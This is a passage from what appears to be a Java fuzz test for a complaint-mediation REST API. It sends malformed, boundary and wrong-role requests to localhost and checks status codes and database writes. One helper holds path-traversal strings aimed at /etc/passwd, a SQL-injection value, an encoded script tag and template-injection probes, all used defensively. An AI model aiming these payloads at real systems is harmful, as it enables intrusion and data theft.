                Validity.INVALID_4XX, type != null && type.startsWith("multipart") ? Set.of(400, 415) : Set.of(415),
                Write.NONE);
    }

    private Probe anonymous(String endpoint, String method, String path, byte[] body) {
        return anonymous(endpoint, method, path, body, "application/json");
    }

    private Probe anonymous(String endpoint, String method, String path, byte[] body, String type) {
        return new Probe(endpoint, "anonymous", method, path, null, null, type, body, Map.of(),
                Validity.INVALID_4XX, Set.of(401), Write.NONE);
    }

    // ------------------------------------------------------------------ bodies

    /** A generated JSON body: its fields, raw or not, and whether the contract calls it valid. */
    static final class Body {
        final Map<String, Object> values = new LinkedHashMap<>();
        Validity validity = Validity.VALID;
        String label = "valid";
        private final ObjectMapper json;

        Body(ObjectMapper json) {
            this.json = json;
        }

        void worsen(Validity to, String why) {
            if (to.ordinal() > validity.ordinal()) {
                validity = to;
                label = why;
            } else if (validity == Validity.VALID && to == Validity.VALID) {
                label = "valid";
            }
        }

        byte[] bytes() {
            try {
                return json.writeValueAsBytes(values);
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        }
    }

    /** A field generator: puts a value (or nothing) into a body and says how valid it is. */
    interface FieldGen {
        void into(Body body);
    }

    private Body object(FieldGen... fields) {
        Body body = new Body(json);
        for (FieldGen field : fields) {
            field.into(body);
        }
        if (random.nextDouble() < 0.1) {
            body.values.put(pick(List.of("id", "stage", "buyer", "__proto__", "extra")), pick(List.of("CLOSED",
                    "buyer2", "x", "${7*7}")));
            if (body.validity == Validity.VALID) {
                body.label = "valid with unknown field";
            }
        }
        return body;
    }

    private FieldGen text(String name, boolean required, int max) {
        return body -> {
            double roll = random.nextDouble();
            if (roll < 0.6) {
                String value = roll < 0.08 ? boundary(max) : anyText.get();
                put(body, name, value, textValidity(value, required, max), name + " text");
            } else if (roll < 0.68) {
                String value = pick(List.of("", " ", "\t\n", "\u0000", "\u0000\u0001 \u001f"));
                put(body, name, value, required ? Validity.INVALID_400 : Validity.VALID, name + " blank");
            } else if (roll < 0.76) {
                String value = random.nextBoolean() ? "y".repeat(max + 1) : "😀".repeat(max / 2 + 1);
                put(body, name, value, Validity.INVALID_400, name + " over " + max);
            } else if (roll < 0.82) {
                if (required) {
                    body.worsen(Validity.INVALID_400, name + " missing");
                } else {
                    body.worsen(Validity.VALID, name + " missing");
                }
            } else if (roll < 0.86) {
                put(body, name, null, required ? Validity.INVALID_400 : Validity.VALID, name + " null");
            } else if (roll < 0.9) {
                put(body, name, pick(List.of(Map.of("a", 1), List.of("x"), List.of())), Validity.INVALID_400,
                        name + " object/array");
            } else if (roll < 0.95) {
                put(body, name, random.nextBoolean(), Validity.LENIENT, name + " boolean");
            } else {
                put(body, name, new RawValue(pick(List.of("42", "-1", "1e308", "0.1"))), Validity.LENIENT,
                        name + " number");
            }
        };
    }

    private FieldGen enumField(String name, boolean required, List<String> values) {
        return body -> {
            double roll = random.nextDouble();
            if (roll < 0.72) {
                put(body, name, pick(values), Validity.VALID, name + " valid");
            } else if (roll < 0.8) {
                put(body, name, pick(List.of("UNKNOWN", values.get(0).toLowerCase(), "${7*7}", values.get(0) + "X")),
                        Validity.INVALID_400, name + " unknown value");
            } else if (roll < 0.81) {
                // Jackson trims what it reads as an enum name (\u0000 counts as trimmable): lenient, either answer.
                put(body, name, pick(List.of(" " + values.get(0), values.get(0) + "\u0000")), Validity.LENIENT,
                        name + " padded value");
            } else if (roll < 0.84) {
                put(body, name, "", required ? Validity.INVALID_400 : Validity.LENIENT, name + " empty");
            } else if (roll < 0.9) {
                put(body, name, new RawValue(pick(List.of("0", "1", "2", "-1", "99", "1.5"))), Validity.INVALID_400,
                        name + " number for enum");
            } else if (roll < 0.94) {
                put(body, name, pick(List.of(true, Map.of("name", values.get(0)), List.of(values.get(0)))),
                        Validity.INVALID_400, name + " wrong type");
            } else if (roll < 0.97) {
                put(body, name, null, required ? Validity.INVALID_400 : Validity.VALID, name + " null");
            } else if (required) {
                body.worsen(Validity.INVALID_400, name + " missing");
            }
        };
    }

    private FieldGen amount(String name, boolean required, boolean positive) {
        return body -> {
            double roll = random.nextDouble();
            if (roll < 0.6) {
                put(body, name, new RawValue(validAmount()), Validity.VALID, name + " valid");
            } else if (roll < 0.85) {
                String raw = pick(List.of("-1", "-0.01", "1.005", "0.001", "1e308", "12345678901", "99999999999.99",
                        "1e999999", "-1e-10", "123456789012345678901234567890", "1E+11", "2.999"));
                put(body, name, new RawValue(raw), Validity.INVALID_400, name + " out of range " + raw);
            } else if (roll < 0.88) {
                put(body, name, new RawValue("0"), positive ? Validity.INVALID_400 : Validity.VALID, name + " zero");
            } else if (roll < 0.92) {
                String bad = pick(List.of("abc", "NaN", "Infinity", "", "12,50", "¥12"));
                // "" reads as null: invalid for a required amount, a missing one for an optional amount.
                put(body, name, bad, bad.isEmpty() && !required ? Validity.VALID : Validity.INVALID_400,
                        name + " bad string");
            } else if (roll < 0.94) {
                put(body, name, "12.50", Validity.LENIENT, name + " numeric string");
            } else if (roll < 0.97) {
                put(body, name, pick(List.of(true, Map.of("value", 1), List.of(1))), Validity.INVALID_400,
                        name + " wrong type");
            } else if (required) {
                body.worsen(Validity.INVALID_400, name + " missing");
            } else {
                put(body, name, null, Validity.VALID, name + " null");
            }
        };
    }

    private FieldGen integer(String name, int min, int max) {
        return body -> {
            double roll = random.nextDouble();
            if (roll < 0.6) {
                put(body, name, min + random.nextInt(max - min + 1), Validity.VALID, name + " valid");
            } else if (roll < 0.8) {
                put(body, name, new RawValue(pick(List.of(Integer.toString(min - 1), Integer.toString(max + 1), "-1",
                        "2147483648", "99999999999999999999", "1e400", "-2147483649"))), Validity.INVALID_400,
                        name + " out of range");
            } else if (roll < 0.85) {
                put(body, name, new RawValue(pick(List.of("3.7", "4.5", "1.0000001"))), Validity.INVALID_400,
                        name + " fraction");
            } else if (roll < 0.9) {
                put(body, name, pick(List.of("five", "", "x3")), Validity.INVALID_400, name + " bad string");
            } else if (roll < 0.95) {
                put(body, name, pick(List.of(true, Map.of(), List.of(3))), Validity.INVALID_400, name + " wrong type");
            } else {
                put(body, name, null, Validity.INVALID_400, name + " null");
            }
        };
    }

    private FieldGen bool(String name) {
        return body -> {
            double roll = random.nextDouble();
            if (roll < 0.65) {
                put(body, name, random.nextBoolean(), Validity.VALID, name + " valid");
            } else if (roll < 0.75) {
                put(body, name, pick(List.of("yes", "maybe", "TRUE!", "")), Validity.INVALID_400, name + " bad string");
            } else if (roll < 0.8) {
                put(body, name, pick(List.of("true", "false")), Validity.LENIENT, name + " boolean string");
            } else if (roll < 0.87) {
                put(body, name, new RawValue(pick(List.of("1", "0", "2", "1.5"))), Validity.INVALID_400,
                        name + " number for boolean");
            } else if (roll < 0.93) {
                put(body, name, pick(List.of(Map.of(), List.of(true))), Validity.INVALID_400, name + " wrong type");
            } else if (roll < 0.97) {
                put(body, name, null, Validity.INVALID_400, name + " null");
            } else {
                body.worsen(Validity.INVALID_400, name + " missing");
            }
        };
    }

    private FieldGen citations() {
        return body -> {
            double roll = random.nextDouble();
            if (roll < 0.55) {
                List<Map<String, Object>> list = new ArrayList<>();
                int n = random.nextInt(4);
                for (int i = 0; i < n; i++) {
                    String[] clause = pick(clauses);
                    list.add(Map.of("standard", random.nextBoolean() ? clause[0] : " " + clause[0] + " ",
                            "clause", clause[1]));
                }
                put(body, "citations", list, Validity.VALID, "citations valid");
            } else if (roll < 0.65) {
                put(body, "citations", List.of(Map.of("standard", pick(List.of("GB 0-0000", "${7*7}", "x".repeat(40))),
                        "clause", "9.9")), Validity.INVALID_4XX, "citation unknown to the catalog");
            } else if (roll < 0.72) {
                List<Map<String, Object>> list = new ArrayList<>();
                for (int i = 0; i < 21; i++) {
                    list.add(Map.of("standard", clauses.get(0)[0], "clause", clauses.get(0)[1]));
                }
                put(body, "citations", list, Validity.INVALID_400, "21 citations");
            } else if (roll < 0.8) {
                List<Object> list = new ArrayList<>();
                list.add(pick(java.util.Arrays.asList(null, Map.of("standard", ""), Map.of("clause", "4"),
                        Map.of("standard", "x".repeat(41), "clause", "4"), Map.of("standard", "GB", "clause",
                                "1".repeat(21)), "GB 5296.4-2012 §4", 7)));
                put(body, "citations", list, Validity.INVALID_400, "invalid citation");
            } else if (roll < 0.86) {
                put(body, "citations", pick(List.of("GB 5296.4-2012", Map.of("standard", "x"), 1, true)),
                        Validity.INVALID_400, "citations wrong type");
            } else if (roll < 0.93) {
                put(body, "citations", null, Validity.VALID, "citations null");
            }
        };
    }

    private void put(Body body, String name, Object value, Validity validity, String why) {
        body.values.put(name, value);
        body.worsen(validity, why);
    }

    private Validity textValidity(String value, boolean required, int max) {
        if (value.length() > max) {
            return Validity.INVALID_400;
        }
        if (required && value.trim().isEmpty()) {
            return Validity.INVALID_400;
        }
        return Validity.VALID;
    }

    private String boundary(int max) {
        return switch (random.nextInt(4)) {
            case 0 -> "x".repeat(max);
            case 1 -> "😀".repeat(max / 2);
            case 2 -> "中".repeat(max);
            default -> "a" + " ".repeat(max - 2) + "b";
        };
    }

    private String validAmount() {
        return pick(List.of("0.01", "1", "12.5", "199.99", "200.00", "399", "1e2", "2.50E1", "9999999999.99",
                String.format("%d.%02d", random.nextInt(1000), random.nextInt(100))));
    }

    private Map<String, Object> validFiling(String shopId) {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("shopId", shopId);
        body.put("orderRef", "ORD-" + UUID.randomUUID());
        body.put("category", pick(CATEGORIES));
        body.put("description", "Fuzz filing: the label does not match the fabric.");
        body.put("orderAmount", 399.00);
        body.put("claimedAmount", 150.00);
        body.put("desiredRemedy", pick(REMEDIES));
        return body;
    }

    private Body filingBody() {
        Body body = object(
                b -> {
                    if (random.nextDouble() < 0.8) {
                        put(b, "shopId", randomShop(), Validity.VALID, "shopId valid");
                    } else {
                        text("shopId", true, 64).into(b);
                        b.worsen(Validity.INVALID_4XX, "shopId unknown");
                    }
                },
                b -> {
                    if (random.nextDouble() < 0.7) {
                        put(b, "orderRef", "ORD-" + UUID.randomUUID(), Validity.VALID, "orderRef valid");
                    } else {
                        text("orderRef", true, 64).into(b);
                    }
                },
                enumField("category", true, CATEGORIES),
                text("description", true, 4000),
                amount("orderAmount", true, true),
                amount("claimedAmount", true, true),
                enumField("desiredRemedy", true, REMEDIES),
                b -> {
                    double roll = random.nextDouble();
                    if (roll < 0.5) {
                        return;
                    }
                    Map<String, Object> live = new LinkedHashMap<>();
                    if (roll < 0.75) {
                        live.put("room", "hm-live-" + random.nextInt(100));
                        live.put("offsetSeconds", random.nextInt(604_801));
                        put(b, "livestream", live, Validity.VALID, "livestream valid");
                    } else if (roll < 0.9) {
                        live.put("room", pick(List.of("", " ", "r".repeat(129), "room")));
                        live.put("offsetSeconds", new RawValue(pick(List.of("-1", "604801", "1e10", "\"soon\"", "0"))));
                        put(b, "livestream", live, Validity.INVALID_400, "livestream invalid");
                    } else {
                        put(b, "livestream", pick(List.of("hm-live-1", List.of(), 42, Map.of())), Validity.INVALID_400,
                                "livestream wrong shape");
                    }
                });
        if (body.validity == Validity.VALID) {
            BigDecimal order = decimal(body.values.get("orderAmount"));
            BigDecimal claimed = decimal(body.values.get("claimedAmount"));
            if (order != null && claimed != null && claimed.compareTo(order) > 0) {
                body.worsen(Validity.INVALID_4XX, "claimed over order");
            }
        }
        return body;
    }

    private static String raw(Object value) {
        return value instanceof RawValue rawValue ? String.valueOf(rawValue.rawValue()) : String.valueOf(value);
    }

    private static BigDecimal decimal(Object value) {
        try {
            return value == null ? null : new BigDecimal(raw(value));
        } catch (NumberFormatException e) {
            return null;
        }
    }

    private String randomShop() {
        return pick(List.of("shop-hm-001", "shop-hm-002", "shop-dl-001"));
    }

    // ------------------------------------------------------------------ running and checking

    private void run(String endpoint, int count, Supplier<Probe> probes) {
        int failuresBefore = failures.size();
        for (int i = 0; i < count; i++) {
            execute(probes.get());
        }
        List<String> mine = failures.subList(failuresBefore, failures.size());
        assertThat(mine).as("%s: %d of %d requests broke the contract; first ones:%n%s", endpoint, mine.size(),
                count, String.join("\n", mine.subList(0, Math.min(15, mine.size())))).isEmpty();
    }

    private HttpResponse<byte[]> execute(Probe probe) {
        Snapshot before = snapshot();
        HttpResponse<byte[]> response;
        try {
            response = sendOrThrow(probe.method(), probe.path(), probe.user(), probe.password(), probe.contentType(),
                    probe.body(), probe.headers());
        } catch (IOException | InterruptedException e) {
            requests++;
            fail(probe, "transport error " + e, null);
            return null;
        }
        requests++;
        int status = response.statusCode();
        byStatusClass.merge(status / 100 + "xx", 1, Integer::sum);
        byEndpoint.computeIfAbsent(probe.endpoint(), k -> new TreeMap<>()).merge(status, 1, Integer::sum);
        Snapshot after = snapshot();
        String type = response.headers().firstValue("Content-Type").orElse("");

        if (status >= 500) {
            fail(probe, "5xx", response);
        } else if (status >= 400) {
            checkProblem(probe, response, type);
        } else if (status >= 200 && status < 300) {
            if (probe.validity() == Validity.INVALID_400 || probe.validity() == Validity.INVALID_4XX) {
                fail(probe, "2xx for an invalid request", response);
            } else if (!type.startsWith("application/json")) {
                fail(probe, "2xx not application/json but '" + type + "'", response);
            }
        } else {
            fail(probe, "unexpected status class", response);
        }
        boolean rateLimited = status == 429 && probe.endpoint().equals("filing") && probe.user() != null
                && probe.user().startsWith("buyer");
        if (probe.expected() != null && !probe.expected().contains(status) && !rateLimited) {
            fail(probe, "status " + status + " not in " + probe.expected(), response);
        } else if (status == 429 && probe.endpoint().equals("filing") && probe.user() != null
                && probe.user().startsWith("buyer")) {
            // rate-limited: filing is capped per buyer, and the cap may be checked before the body
        } else if (probe.validity() == Validity.INVALID_400 && status != 400
                && !(status == 413 && probe.body() != null && probe.body().length > JSON_BODY_LIMIT)
                && status != 401) {
            fail(probe, "status " + status + " for an invalid field (want 400)", response);
        } else if (probe.validity() == Validity.VALID && status >= 400
                && !Set.of(403, 404, 409, 422, 429).contains(status)) {
            fail(probe, "status " + status + " for a valid request", response);
        }
        checkWrites(probe, status, before, after, response);
        return response;
    }

    private void checkProblem(Probe probe, HttpResponse<byte[]> response, String type) {
        if (!type.startsWith(PROBLEM_JSON)) {
            fail(probe, response.statusCode() + " not problem+json but '" + type + "'", response);
            return;
        }
        JsonNode problem;
        try {
            problem = json.readTree(response.body());
        } catch (IOException e) {
            fail(probe, response.statusCode() + " problem body is not JSON", response);
            return;
        }
        if (problem == null || problem.path("status").asInt(-1) != response.statusCode()) {
            fail(probe, response.statusCode() + " problem status field mismatch", response);
        }
        if (problem == null || problem.path("title").asText("").isBlank()) {
            fail(probe, response.statusCode() + " problem without title", response);
        }
        if (response.statusCode() == 429 && response.headers().firstValue("Retry-After").isEmpty()) {
            fail(probe, "429 without Retry-After", response);
        }
    }

    private void checkWrites(Probe probe, int status, Snapshot before, Snapshot after, HttpResponse<byte[]> response) {
        boolean accepted = status >= 200 && status < 300;
        if (!accepted || probe.write() == Write.NONE || (probe.write() == Write.FILE && status == 200)) {
            if (!before.equals(after)) {
                fail(probe, "status " + status + " but the database changed: " + before + " -> " + after, response);
            }
            return;
        }
        acceptedBy.merge(probe.endpoint(), 1, Integer::sum);
        long dc = after.complaints() - before.complaints();
        long dm = after.messages() - before.messages();
        long de = after.evidence() - before.evidence();
        long dr = after.ratings() - before.ratings();
        long dcr = after.rulings() - before.rulings();
        long dt = after.timeline() - before.timeline();
        long[] want = switch (probe.write()) {
            case FILE -> new long[] {1, 0, 0, 0, 0};
            case MESSAGE -> new long[] {0, 1, 0, 0, 0};
            case EVIDENCE -> new long[] {0, 0, 1, 0, 0};
            case RATING -> new long[] {0, 0, 0, 1, 0};
            case RULING -> new long[] {0, 0, 0, 0, 1};
            default -> new long[] {0, 0, 0, 0, 0};
        };
        if (dc != want[0] || dm != want[1] || de != want[2] || dr != want[3] || dcr != want[4] || dt < 1) {
            fail(probe, "accepted, but wrote complaints+" + dc + " messages+" + dm + " evidence+" + de + " ratings+"
                    + dr + " rulings+" + dcr + " timeline+" + dt, response);
        }
        tally[0] += dc == want[0] ? want[0] : 0;
        tally[1] += dm == want[1] ? want[1] : 0;
        tally[2] += de == want[2] ? want[2] : 0;
        tally[3] += dr == want[3] ? want[3] : 0;
        tally[4] += dcr == want[4] ? want[4] : 0;
        tally[5] += 1;
        if (probe.write() == Write.FILE && status == 201) {
            String id = readTree(response.body()).path("id").asText();
            String buyer = probe.user();
            String shop = readTree(response.body()).path("shopId").asText();
            cases.put(id, new CaseInfo(id, buyer, shop, readTree(response.body()).path("parkId").asText()));
        }
    }

    private void fail(Probe probe, String what, HttpResponse<byte[]> response) {
        String kind = probe.endpoint() + " | " + probe.label() + " | " + what.replaceAll(":.*", "");
        failureKinds.merge(kind, 1, Integer::sum);
        if (failureKinds.get(kind) > 2) {
            failures.add(kind + " (repeat)");
            return;
        }
        String body = probe.body() == null ? "<none>" : abbreviate(new String(probe.body(), StandardCharsets.UTF_8));
        failures.add(String.format("[%s] %s%n    %s %s as %s, Content-Type %s, body %s%n    -> %s", probe.endpoint(),
                what, probe.method(), abbreviate(probe.path()), probe.user(), probe.contentType(), body,
                response == null ? "-" : response.statusCode() + " "
                        + response.headers().firstValue("Content-Type").orElse("") + " " + abbreviate(text(response))));
    }

    private Snapshot snapshot() {
        return jdbc.sql("""
                select (select count(*) from complaints), (select count(*) from messages),
                       (select count(*) from evidence), (select count(*) from ratings),
                       (select count(*) from timeline), (select count(*) from committee_rulings),
                       (select count(*) from violations), (select count(*) from ACT_RU_TASK),
                       (select count(*) from ACT_HI_ACTINST),
                       (select listagg(id || ':' || stage || ':' || coalesce(outcome, '') || ':'
                               || coalesce(mediator, '') || ':' || coalesce(shop_decision, '') || ':'
                               || coalesce(ruling_decision, '') || ':' || coalesce(information_party, '') || ':'
                               || coalesce(cast(agreed_amount as varchar), '') || ':'
                               || cast(updated_at as varchar), ',') within group (order by id) from complaints)
                """).query((rs, n) -> new Snapshot(rs.getLong(1), rs.getLong(2), rs.getLong(3), rs.getLong(4),
                rs.getLong(5), rs.getLong(6), rs.getLong(7), rs.getLong(8), rs.getLong(9), rs.getString(10)))
                .single();
    }

    private String stage(String id) {
        return jdbc.sql("select stage from complaints where id = ?").param(id).query(String.class).single();
    }

    private BigDecimal orderAmount(String id) {
        return jdbc.sql("select order_amount from complaints where id = ?").param(id).query(BigDecimal.class).single();
    }

    /** A known case; with {@code stage}, one at that stage most of the time, when there is one. */
    private CaseInfo pickCase(String stage) {
        List<CaseInfo> all = new ArrayList<>(cases.values());
        if (stage != null && random.nextDouble() < 0.75) {
            List<String> ids = jdbc.sql("select id from complaints where stage = ? order by id").param(stage)
                    .query(String.class).list();
            List<CaseInfo> at = all.stream().filter(c -> ids.contains(c.id())).toList();
            if (!at.isEmpty()) {
                return pick(at);
            }
        }
        return pick(all);
    }

    /** A caller whose role may take the step on the case (the case's own buyer, its shop, its park's mediator). */
    private String rightUser(CaseInfo target, List<String> roles) {
        String role = pick(roles);
        boolean stranger = random.nextDouble() < 0.1;
        return switch (role) {
            case "BUYER" -> stranger ? (target.buyer().equals("buyer1") ? "buyer2" : "buyer1") : target.buyer();
            case "SHOP" -> stranger ? "shop3" : switch (target.shopId()) {
                case "shop-hm-001" -> "shop1";
                case "shop-hm-002" -> "shop2";
                default -> "shop3";
            };
            case "MEDIATOR" -> stranger || target.park().equals("dalang") ? "mediator2" : "mediator1";
            default -> "committee1";
        };
    }

    private String wrongRoleUser(List<String> roles) {
        List<String> others = new ArrayList<>();
        if (!roles.contains("BUYER")) {
            others.addAll(List.of("buyer1", "buyer2"));
        }
        if (!roles.contains("SHOP")) {
            others.addAll(List.of("shop1", "shop3"));
        }
        if (!roles.contains("MEDIATOR")) {
            others.addAll(List.of("mediator1", "mediator2"));
        }
        if (!roles.contains("COMMITTEE")) {
            others.add("committee1");
        }
        others.add("admin");
        return pick(others);
    }

    private String junkId() {
        return pick(List.of(UUID.randomUUID().toString(), encode(anyText.get()), "x".repeat(3000),
                "..%2F..%2Fetc%2Fpasswd", "%2e%2e", "..;", "%00", "%C0%AE%C0%AE", "%E2%80%AE", "%20",
                "%3Cscript%3E", "'%20OR%201=1--", "$%7B7*7%7D", "%252e%252e", "a%0Ab", "1", "-1", "null",
                encode(UUID.randomUUID() + "'"), "..", ".", "%5C..%5C"));
    }

    private static String encode(String s) {
        StringBuilder out = new StringBuilder();
        for (byte b : s.getBytes(StandardCharsets.UTF_8)) {
            char c = (char) (b & 0xFF);
            if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-' || c == '_') {
                out.append(c);
            } else {
                out.append(String.format("%%%02X", b & 0xFF));
            }
        }
        return out.length() == 0 ? "%20" : out.toString();
    }

    // ------------------------------------------------------------------ HTTP

    private HttpResponse<byte[]> send(String method, String path, String user, String password, String type,
                                      byte[] body, Map<String, String> headers) {
        try {
            return sendOrThrow(method, path, user, password, type, body, headers);
        } catch (IOException | InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    private HttpResponse<byte[]> sendOrThrow(String method, String path, String user, String password, String type,
                                             byte[] body, Map<String, String> headers)
            throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
                .timeout(Duration.ofSeconds(60))
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody()
                        : HttpRequest.BodyPublishers.ofByteArray(body))
                .header("Accept", "application/json, application/problem+json");
        if (user != null) {
            request.header("Authorization", "Basic " + Base64.getEncoder()
                    .encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8)));
        }
        if (type != null) {
            request.header("Content-Type", type);
        }
        headers.forEach(request::header);
        return http.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
    }

    /** A multipart/form-data body, built by hand so that it can also be built wrong. */
    final class Multipart {
        private final String boundary = "fuzz" + Long.toHexString(random.nextLong());
        private final ByteArrayOutputStream out = new ByteArrayOutputStream();

        Multipart file(String name, String fileName, String type, byte[] content) {
            write("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + name + "\"; filename=\""
                    + fileName.replace("\"", "%22").replace("\r", "").replace("\n", "") + "\"\r\nContent-Type: "
                    + type + "\r\n\r\n");
            out.writeBytes(content);
            write("\r\n");
            return this;
        }

        Multipart field(String name, String value) {
            write("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + name
                    + "\"\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n" + value + "\r\n");
            return this;
        }

        String contentType() {
            return "multipart/form-data; boundary=" + boundary;
        }

        byte[] bytes() {
            ByteArrayOutputStream all = new ByteArrayOutputStream();
            all.writeBytes(out.toByteArray());
            all.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
            return all.toByteArray();
        }

        private void write(String s) {
            out.writeBytes(s.getBytes(StandardCharsets.UTF_8));
        }
    }

    private static byte[] jpeg() {
        return concat(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0x00, 0x10, 'J', 'F', 'I', 'F',
            0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00}, new byte[64]);
    }

    private static byte[] gif() {
        return concat("GIF89a".getBytes(StandardCharsets.US_ASCII), new byte[] {1, 0, 1, 0, 0, 0, 0, 0x3B});
    }

    private static byte[] pdf() {
        return "%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);
    }

    // ------------------------------------------------------------------ small helpers

    private <T> Supplier<T> sampler(Arbitrary<T> arbitrary) {
        RandomGenerator<T> generator = arbitrary.generator(1000);
        return () -> generator.next(random).value();
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private byte[] bytes(Object body) {
        try {
            return json.writeValueAsBytes(body);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private JsonNode readTree(byte[] body) {
        try {
            return json.readTree(body);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static String text(HttpResponse<byte[]> response) {
        return new String(response.body(), StandardCharsets.UTF_8);
    }

    private static String abbreviate(String s) {
        String clean = s.replaceAll("\\p{Cntrl}", "·");
        return clean.length() <= 240 ? clean : clean.substring(0, 200) + "…(" + clean.length() + " chars)";
    }
}
